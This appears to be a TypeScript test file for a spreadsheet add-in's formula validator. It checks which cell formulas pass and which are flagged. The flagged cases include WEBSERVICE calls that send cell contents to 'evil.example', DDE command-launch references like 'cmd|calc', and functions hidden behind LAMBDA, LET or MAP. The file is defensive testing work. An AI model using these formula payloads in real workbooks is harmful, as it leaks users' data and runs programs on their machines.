import { formulaFault } from '../../../src/addin/values/formula-fault';

const OURS = 'LOCATTR(1,2,"x")';

describe('what may be typed into cells', () => {
  it.each([
    '=LOCATTR(A1,B1,"w_pop")',
    '=IFERROR(LOCSCORE("Shops",A2,,LOCVARS(D$1:F$1,D2:F2)),"")',
    '=LET(x,LOCATTR([@Lat],[@Lng],"a"),IF(x>5,x,0))',
    '=SUM(A1:B9 (B2:C3),B2 (A1:C3),A:C (2:5))+LOCATTR(A1.:.B9,B1,"x")',
    "=LOCATTR('Joe''s list'!A1,'My stores'!B2,\"a|b\")",
    '=_xldudf_LOCATTR(1,2,"https://example.com/[x]y!")',
    '=LOCATTR(Stores[Lat],Stores[[#All],[Lng]],Sheet2!A1)',
    '=_xlfn.XLOOKUP(A1,B:B,LOCATTR(C:C,D:D,"x"))',
    '=LOCATTR([@[Lat (deg)]],[@[It\'\'s "so"]],Stores[Call (min)])',
    '=_xlfn._xlws.SORT(_xlfn.ANCHORARRAY(D1))&LOCATTR(1,2,"x")',
    '=SUM(PY:PY,RTD:RTD,$PY$1,PY1#,1:1)+LOCATTR(1,2,"x")',
    '=SUM((A1,B1:B2 C1))+A1%+1.5E-3+.5+LOCATTR(1,2,{"x","y";"a","b"})',
    '=IF(ISNA(LOCATTR(Image!A1,my.rate,"x")),#N/A,#REF!)',
    '=LOCATTR(1,2,"x")*rate+SUM(A1)',
    '=LET(isOpen,TRUE,a,LOCATTR(1,2,"x"),IF(isOpen,a,0))',
    '= @LOCATTR (\n Région!A1 , \'दुकान\'!B1 , "x" )',
  ])('is %s', (formula) => {
    expect(formulaFault(formula)).toBeUndefined();
  });
});

describe('a function that fetches', () => {
  it.each([
    `='a"b'!A1&WEBSERVICE("http://evil.example/?"&B2)&${OURS}&'c"d'!A1`,
    `=T[a"b]&WEBSERVICE("http://evil.example/?"&B2)&T[c"d]&${OURS}`,
    `=(WEBSERVICE)(A1)&${OURS}`,
    `=_xleta.WEBSERVICE&${OURS}`,
    `=LET(webservice,1,webservice(A1))&${OURS}`,
    `=@_xlfn.webservice (A1)&${OURS}`,
  ])('is found in %s', (formula) => {
    expect(formulaFault(formula)).toBe('it calls WEBSERVICE');
  });
});

describe('a function that nobody knows', () => {
  it.each([
    ['CONTOSO.SEND', `=CONTOSO.SEND(A1)&${OURS}`],
    ['SendData', `=SendData(A1)&${OURS}`],
    ['Book!Macro', `=Book!Macro(A1)&${OURS}`],
    ["'My book'!Macro", `='My book'!Macro(A1)&${OURS}`],
    ['the result of a calculation', `=IF(TRUE,SendData)(A1)&${OURS}`],
    ['the result of a calculation', `=(SendData)(A1)&${OURS}`],
  ])('%s is found in %s', (name, formula) => {
    expect(formulaFault(formula)).toBe(`it calls ${name}, which isn’t an Excel or Locus function`);
  });
});

describe('a function under another name', () => {
  it.each([
    ['LAMBDA', `=LAMBDA(f,f(A1))(SendData)&${OURS}`],
    ['LAMBDA', `=LET(SendData,LAMBDA(x,x),1)+SendData(A1)&${OURS}`],
    ['MAP', `=MAP(A1:A9,SendData)&${OURS}`],
    ['MAP', `=CONCAT(MAP(A1:A9,WEBSERVICE))&${OURS}`],
    ['BYROW', `=_xlfn.BYROW(A1:A9,IF(TRUE,SendData))&${OURS}`],
    ['GROUPBY', `=GROUPBY(A1:A9,B1:B9,SendData,1)&${OURS}`],
    ['LET', `=LET(sum,SendData,SUM(A1))&${OURS}`],
    ['LET', `=LET(_xlpm.sum,SendData,_xlpm.sum(A1))&${OURS}`],
    ['LET', `=LET(locattr,SendData,LOCATTR(A1,B1,"x"))`],
  ])('cannot be told, so %s is named: %s', (plain, formula) => {
    expect(formulaFault(formula)).toBe(`it calls ${plain}`);
  });

  it('is not known to LET either', () => {
    expect(formulaFault(`=LET(f,SendData,f(A1))&${OURS}`)).toMatch(/^it calls f, which/);
  });
});

describe('what is not read at all', () => {
  it.each([
    ['it refers to another workbook', `=[Book.xlsx]Sheet!A1&${OURS}`],
    ['it refers to another workbook', `='[Book.xlsx]Sheet'!A1&${OURS}`],
    ['it refers to another workbook', `='C:\\files\\Book'!Rates&${OURS}`],
    ['it refers to another workbook', `=Book.xlsx!Rates&${OURS}`],
    ['it uses another program', `=cmd|calc!A1&${OURS}`],
    ['it uses another program', `='cmd|calc'!A1&${OURS}`],
    ['it can’t be read', `=${OURS}&"open`],
    ['it can’t be read', `=T[open&${OURS}`],
    ['it can’t be read', `=1)&SendData(2)&(${OURS}`],
    ['it doesn’t use a Locus function', '=1+1'],
    ['it doesn’t use a Locus function', '="LOCATTR(1)"'],
  ])('since %s: %s', (fault, formula) => {
    expect(formulaFault(formula)).toBe(fault);
  });
});
